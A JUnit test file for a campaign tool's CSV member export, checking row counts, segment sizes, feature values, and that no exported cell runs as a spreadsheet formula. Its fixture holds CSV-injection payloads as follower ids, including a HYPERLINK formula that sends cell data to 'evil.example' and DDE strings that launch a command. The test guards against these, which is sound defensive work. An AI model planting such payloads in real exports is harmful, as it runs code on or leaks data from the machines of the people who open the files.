package com.campaignstudio.cli;

import com.campaignstudio.project.Project;
import com.campaignstudio.segments.FactsReader;
import com.campaignstudio.segments.Feature;
import com.campaignstudio.segments.FollowerFacts;
import com.campaignstudio.segments.Population;
import com.campaignstudio.segments.SegmentProfile;
import com.campaignstudio.segments.SegmentStore;
import com.campaignstudio.segments.Segmentation;
import com.campaignstudio.work.TaskContext;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static com.campaignstudio.cli.CommandLineTest.run;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** {@code segment --export-members} writes one row per member, the segment sizes add up, and no cell is a formula. */
class MemberExportTest {

    /** Follower ids a hostile export may carry (the project opted out of pseudonymising); each would run in Excel. */
    private static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1");

    /** Values are written to four decimals: half the last one, and a little for the double's own rounding. */
    private static final double FOUR_DECIMALS = 0.5e-4 + 1e-9;

    @TempDir
    static Path folder;
    static Path project;

    @BeforeAll
    static void makeProjectWithHostileIds() throws Exception {
        System.setProperty("campaignstudio.home", folder.resolve("home").toString());
        project = folder.resolve("members.campaign");
        assertEquals(0, run("demo", "--size", "small", "--out", project.toString()).exitCode());
        try (Project open = Project.open(ProjectOption.locations(), project)) {
            open.database().transaction(connection -> {
                try (PreparedStatement rename = connection.prepareStatement(
                        "UPDATE follower SET external_id = ? WHERE id = ?")) {
                    for (int i = 0; i < PAYLOADS.size(); i++) {
                        rename.setString(1, PAYLOADS.get(i));
                        rename.setLong(2, i + 1);
                        rename.executeUpdate();
                    }
                }
                return null;
            });
            open.save();
        }
    }

    @Test
    void everyMemberIsOneRowWithItsSegmentScoreAndFeatureValues() throws Exception {
        Path csv = folder.resolve("all.csv");
        JsonNode json = segment("All", "--export-members", csv.toString());
        Segmentation segmentation;
        FollowerFacts facts;
        Map<String, Long> idsByExternal = new HashMap<>();
        try (Project open = Project.open(ProjectOption.locations(), project)) {
            segmentation = new SegmentStore(open.database()).load(json.get("id").asLong());
            facts = new FactsReader(open.database()).read(new Population(null, false, null, null), TaskContext.silent());
            open.database().read(connection -> {
                try (Statement statement = connection.createStatement();
                     ResultSet rs = statement.executeQuery("SELECT f.id, f.external_id, p.code FROM follower f "
                             + "JOIN platform p ON p.id = f.platform_id")) {
                    while (rs.next()) {
                        idsByExternal.put(rs.getString(3) + "/" + rs.getString(2), rs.getLong(1));
                    }
                }
                return null;
            });
        }
        List<List<String>> rows = read(csv);
        List<String> featureKeys = Feature.DEFAULTS.stream().map(Feature::key).toList();
        assertEquals(Stream.concat(Stream.of("follower_id", "platform", "segment_number", "segment", "potential",
                "engagement_score"), featureKeys.stream()).toList(), rows.getFirst());
        List<List<String>> members = rows.subList(1, rows.size());
        assertEquals(segmentation.followerIds().length, members.size(), "one row per follower");
        assertEquals(members.size(), json.get("members_written").asLong());
        assertEquals(sizesByNumber(segmentation.profiles()), countByNumber(members));

        Set<Long> seen = new HashSet<>();
        for (List<String> row : members) {
            String externalId = row.get(0).startsWith("'") ? row.get(0).substring(1) : row.get(0);
            long id = idsByExternal.get(row.get(1) + "/" + externalId);
            assertTrue(seen.add(id), "each follower once: " + row);
            int member = Arrays.binarySearch(segmentation.followerIds(), id);
            SegmentProfile profile = segmentation.profiles().get(segmentation.segment()[member]);
            assertEquals(profile.number() + 1, Integer.parseInt(row.get(2)));
            assertEquals(profile.name(), row.get(3));
            assertEquals(segmentation.engagement()[member], Double.parseDouble(row.get(5)), FOUR_DECIMALS);
            int factsRow = Arrays.binarySearch(facts.ids(), id);
            for (int j = 0; j < featureKeys.size(); j++) {
                assertEquals(facts.value(Feature.DEFAULTS.get(j), factsRow), Double.parseDouble(row.get(6 + j)), FOUR_DECIMALS,
                        featureKeys.get(j) + " of " + row);
            }
        }
        List<String> writtenIds = members.stream().map(List::getFirst).toList();
        for (String payload : PAYLOADS) {
            assertTrue(writtenIds.contains("'" + payload), "the hostile id is written as text: " + payload);
        }
    }

    @Test
    void chosenSegmentsAloneAreWritten() throws Exception {
        Path csv = folder.resolve("some.csv");
        JsonNode json = segment("Some", "--export-members", csv.toString(), "--export-segments", "1,3");
        List<List<String>> members = read(csv).subList(1, json.get("members_written").asInt() + 1);
        Map<Integer, Long> counts = countByNumber(members);
        assertEquals(Set.of(1, 3), counts.keySet());
        JsonNode segments = json.get("segments");
        assertEquals(segments.get(0).get("size").asLong(), counts.get(1));
        assertEquals(segments.get(2).get("size").asLong(), counts.get(3));
    }

    @Test
    void aSegmentNumberBeyondKIsRefusedBeforeAnythingIsSaved() {
        CommandLineTest.Run run = run("segment", "--project", project.toString(), "--k", "3", "--name", "Refused",
                "--export-members", folder.resolve("none.csv").toString(), "--export-segments", "4");
        assertEquals(1, run.exitCode());
        assertEquals("error: --export-segments 4: the segments are numbered 1 to 3", run.err().strip());
        assertEquals(0, run("segment", "--project", project.toString(), "--k", "3", "--name", "Refused").exitCode(),
                "the refused run saved no segmentation of that name");
    }

    private static JsonNode segment(String name, String... export) {
        List<String> args = new ArrayList<>(List.of("segment", "--project", project.toString(), "--k", "4", "--name",
                name, "--json"));
        args.addAll(List.of(export));
        CommandLineTest.Run run = run(args.toArray(String[]::new));
        assertEquals(0, run.exitCode(), run.err());
        return JsonMapper.builder().build().readTree(run.out());
    }

    private static Map<Integer, Long> sizesByNumber(List<SegmentProfile> profiles) {
        return profiles.stream().collect(Collectors.toMap(p -> p.number() + 1, SegmentProfile::size, Long::sum,
                TreeMap::new));
    }

    private static Map<Integer, Long> countByNumber(List<List<String>> members) {
        return members.stream().collect(Collectors.groupingBy(row -> Integer.parseInt(row.get(2)), TreeMap::new,
                Collectors.counting()));
    }

    /** The file's rows (header first, byte-order mark dropped), checking that no cell would run as a formula. */
    private static List<List<String>> read(Path csv) throws Exception {
        List<List<String>> rows = new ArrayList<>();
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv, StandardCharsets.UTF_8)) {
            for (CsvRecord record : reader) {
                List<String> cells = new ArrayList<>(record.getFields());
                if (rows.isEmpty()) {
                    assertTrue(cells.getFirst().startsWith("\uFEFF"), "UTF-8 with a byte-order mark");
                    cells.set(0, cells.getFirst().substring(1));
                }
                for (String cell : cells) {
                    assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0
                            || cell.matches("-?\\d+(\\.\\d+)?"), "a formula in " + csv.getFileName() + ": " + cell);
                }
                rows.add(cells);
            }
        }
        return rows;
    }
}
